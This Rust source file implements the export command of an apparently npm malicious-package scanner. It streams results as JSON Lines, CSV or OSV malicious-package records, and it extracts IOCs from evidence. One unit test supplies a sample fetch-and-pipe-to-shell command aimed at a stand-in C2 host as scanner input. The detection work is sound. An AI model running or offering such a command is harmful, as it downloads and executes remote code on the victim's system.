//! `dsca export`: a store's results for other tools, streamed page by page.
//! - JSON Lines: the full report per line (BigQuery, ClickHouse, notebooks);
//! - CSV: one row per package with the columns the store indexes;
//! - OSV: one record per package judged malicious, in the shape of the MAL- records of
//!   the OpenSSF malicious-packages database, with the findings' evidence as IOCs.

use crate::batch::open_store;
use crate::cli::{ExportArgs, ExportFormat};
use anyhow::Context as _;
use dsca_model::{Report, Source};
use dsca_store::StoredResult;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::io::{BufWriter, Write};
use std::net::IpAddr;

/// Results read per query while exporting.
const PAGE: i64 = 500;
/// The OSV schema version the records follow.
const OSV_SCHEMA_VERSION: &str = "1.6.0";

pub fn run(args: ExportArgs) -> anyhow::Result<u8> {
    let store = open_store(&args.store)?;
    let (mut out, temp): (
        Box<dyn Write>,
        Option<(std::path::PathBuf, std::path::PathBuf)>,
    ) = match &args.output {
        Some(path) => {
            // Written beside the target and renamed at the end: never half a file.
            let temp = path.with_extension(format!("dsca-{}.tmp", std::process::id()));
            let file = std::fs::File::create(&temp)
                .with_context(|| format!("cannot write {}", temp.display()))?;
            (Box::new(BufWriter::new(file)), Some((temp, path.clone())))
        }
        None => (Box::new(BufWriter::new(std::io::stdout().lock())), None),
    };
    if args.format == ExportFormat::Csv {
        writeln!(
            out,
            "spec,name,version,verdict,score,popularity_rank,non_registry_dns,error_code,rules,scanned_at"
        )?;
    }
    let mut after = 0;
    loop {
        let page = store.results_after(after, PAGE)?;
        let Some(last) = page.last() else { break };
        after = last.job_id;
        for result in &page {
            match args.format {
                ExportFormat::Jsonl => writeln!(out, "{}", result.report_json)?,
                ExportFormat::Csv => write_csv_row(&mut out, result)?,
                ExportFormat::Osv => {
                    if result.verdict.as_deref() == Some("malicious") {
                        let report: Report = serde_json::from_str(&result.report_json)
                            .with_context(|| {
                                format!("the stored report of {} is unreadable", result.spec)
                            })?;
                        let dynamic_dns: BTreeSet<String> =
                            serde_json::from_str::<Value>(&result.report_json)
                                .map(|value| dsca_store::non_registry_dns_names(&value))
                                .unwrap_or_default()
                                .into_iter()
                                .collect();
                        let record = osv_record(&report, &result.scanned_at, &dynamic_dns);
                        serde_json::to_writer(&mut out, &record)?;
                        writeln!(out)?;
                    }
                }
            }
        }
    }
    out.flush()?;
    drop(out);
    if let Some((temp, path)) = temp {
        std::fs::rename(&temp, &path)
            .with_context(|| format!("cannot write {}", path.display()))?;
    }
    Ok(0)
}

fn write_csv_row(out: &mut dyn Write, result: &StoredResult) -> anyhow::Result<()> {
    let rules: BTreeSet<String> = serde_json::from_str::<Value>(&result.report_json)
        .ok()
        .and_then(|report| report.get("findings").and_then(Value::as_array).cloned())
        .unwrap_or_default()
        .iter()
        .filter_map(|finding| finding.get("rule").and_then(Value::as_str))
        .map(str::to_string)
        .collect();
    let fields = [
        result.spec.clone(),
        result.name.clone(),
        result.version.clone().unwrap_or_default(),
        result.verdict.clone().unwrap_or_default(),
        result.score.map(|s| s.to_string()).unwrap_or_default(),
        result
            .popularity_rank
            .map(|rank| rank.to_string())
            .unwrap_or_default(),
        result.non_registry_dns.to_string(),
        result.error_code.clone().unwrap_or_default(),
        rules.into_iter().collect::<Vec<_>>().join(" "),
        result.scanned_at.clone(),
    ];
    let row: Vec<String> = fields.iter().map(|field| csv_field(field)).collect();
    writeln!(out, "{}", row.join(","))?;
    Ok(())
}

/// RFC 4180: quote a field holding a comma, quote or line break; double its quotes.
fn csv_field(field: &str) -> String {
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_string()
    }
}

/// Indicators named in evidence text: URLs, IP addresses and URL host names, less the
/// registry the package itself came from.
#[derive(Default)]
struct Iocs {
    urls: BTreeSet<String>,
    ips: BTreeSet<String>,
    domains: BTreeSet<String>,
    /// Hosts of the registry and tarball URLs: where the package was fetched, not IOCs.
    own_hosts: BTreeSet<String>,
}

impl Iocs {
    fn excluding_source(source: &Source) -> Self {
        let mut iocs = Iocs::default();
        if let Source::Registry { registry, tarball } = source {
            for address in [registry, tarball] {
                if let Some(host) = url::Url::parse(address)
                    .ok()
                    .and_then(|url| url.host_str().map(str::to_ascii_lowercase))
                {
                    iocs.own_hosts.insert(host);
                }
            }
        }
        iocs
    }

    fn scan(&mut self, text: &str) {
        for token in text.split(|c: char| c.is_whitespace() || "\"'`()<>[]{},;".contains(c)) {
            let token = token.trim_end_matches(['.', ':', '|', '\\']);
            if token.starts_with("http://") || token.starts_with("https://") {
                if let Ok(url) = url::Url::parse(token) {
                    if url
                        .host_str()
                        .is_some_and(|host| self.own_hosts.contains(&host.to_ascii_lowercase()))
                    {
                        continue;
                    }
                    match url.host() {
                        Some(url::Host::Domain(domain)) => {
                            self.domains.insert(domain.to_ascii_lowercase());
                        }
                        Some(url::Host::Ipv4(ip)) => {
                            self.ips.insert(ip.to_string());
                        }
                        Some(url::Host::Ipv6(ip)) => {
                            self.ips.insert(ip.to_string());
                        }
                        None => {}
                    }
                    self.urls.insert(token.to_string());
                }
            } else if let Ok(ip) = token.parse::<IpAddr>() {
                self.ips.insert(ip.to_string());
            }
        }
    }
}

/// A stable id for a package version: `DSCA-MAL-` and 16 hex digits of an FNV-1a hash,
/// so the same finding exports under the same id from any store.
fn osv_id(name: &str, version: &str) -> String {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in format!("npm/{name}@{version}").bytes() {
        hash ^= u64::from(byte);
        hash = hash.wrapping_mul(0x0100_0000_01b3);
    }
    format!("DSCA-MAL-{hash:016x}")
}

fn osv_record(report: &Report, scanned_at: &str, dynamic_dns: &BTreeSet<String>) -> Value {
    let name = &report.package.name;
    let version = report.package.version.clone().unwrap_or_default();
    let mut iocs = Iocs::excluding_source(&report.source);
    let mut evidence = Vec::new();
    for finding in &report.findings {
        for item in &finding.evidence {
            iocs.scan(&item.detail);
            if let Some(snippet) = &item.snippet {
                iocs.scan(snippet);
            }
            let mut entry = json!({ "rule": finding.rule, "detail": item.detail });
            if let Some(location) = &item.location {
                entry["file"] = json!(location.file);
                if let Some(line) = location.line {
                    entry["line"] = json!(line);
                }
            }
            evidence.push(entry);
        }
    }
    iocs.domains.extend(dynamic_dns.iter().cloned());
    let reasons = report
        .verdict
        .as_ref()
        .map(|verdict| verdict.reasons.clone())
        .unwrap_or_default();
    let mut details = format!("dsca judged {name}@{version} malicious");
    if let Some(verdict) = &report.verdict {
        details.push_str(&format!(" (score {})", verdict.score));
    }
    details.push_str(".\n");
    for reason in &reasons {
        details.push_str(&format!("\n- {reason}"));
    }
    let mut affected = json!({
        "package": {
            "ecosystem": "npm",
            "name": name,
            "purl": format!("pkg:npm/{}", name.replacen('@', "%40", 1)),
        },
    });
    if !version.is_empty() {
        affected["versions"] = json!([version]);
    }
    json!({
        "schema_version": OSV_SCHEMA_VERSION,
        "id": osv_id(name, &version),
        "modified": scanned_at,
        "published": scanned_at,
        "summary": format!("Malicious code in {name} (npm)"),
        "details": details,
        "affected": [affected],
        "database_specific": {
            "source": "dsca",
            "score": report.verdict.as_ref().map(|verdict| verdict.score),
            "rules": report.findings.iter().map(|f| f.rule.clone()).collect::<BTreeSet<_>>(),
            "iocs": {
                "domains": iocs.domains,
                "ips": iocs.ips,
                "urls": iocs.urls,
            },
            "evidence": evidence,
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iocs_come_from_evidence_but_not_from_the_packages_own_registry() {
        let mut iocs = Iocs::excluding_source(&Source::Registry {
            registry: "https://registry.npmjs.org/".to_string(),
            tarball: "https://registry.npmjs.org/x/-/x-1.0.0.tgz".to_string(),
        });
        iocs.scan("curl -s http://c2.example/stage2.sh | sh; ping 203.0.113.9.");
        iocs.scan(
            "fetched (https://registry.npmjs.org/x/-/x-1.0.0.tgz) and https://198.51.100.7:8443/p",
        );
        assert_eq!(
            iocs.urls.iter().collect::<Vec<_>>(),
            ["http://c2.example/stage2.sh", "https://198.51.100.7:8443/p"]
        );
        assert_eq!(iocs.domains.iter().collect::<Vec<_>>(), ["c2.example"]);
        assert_eq!(
            iocs.ips.iter().collect::<Vec<_>>(),
            ["198.51.100.7", "203.0.113.9"]
        );
    }

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn osv_ids_are_stable_per_package_version() {
        assert_eq!(osv_id("x", "1.0.0"), osv_id("x", "1.0.0"));
        assert_ne!(osv_id("x", "1.0.0"), osv_id("x", "1.0.1"));
        assert!(osv_id("@s/x", "1.0.0").starts_with("DSCA-MAL-"));
    }
}
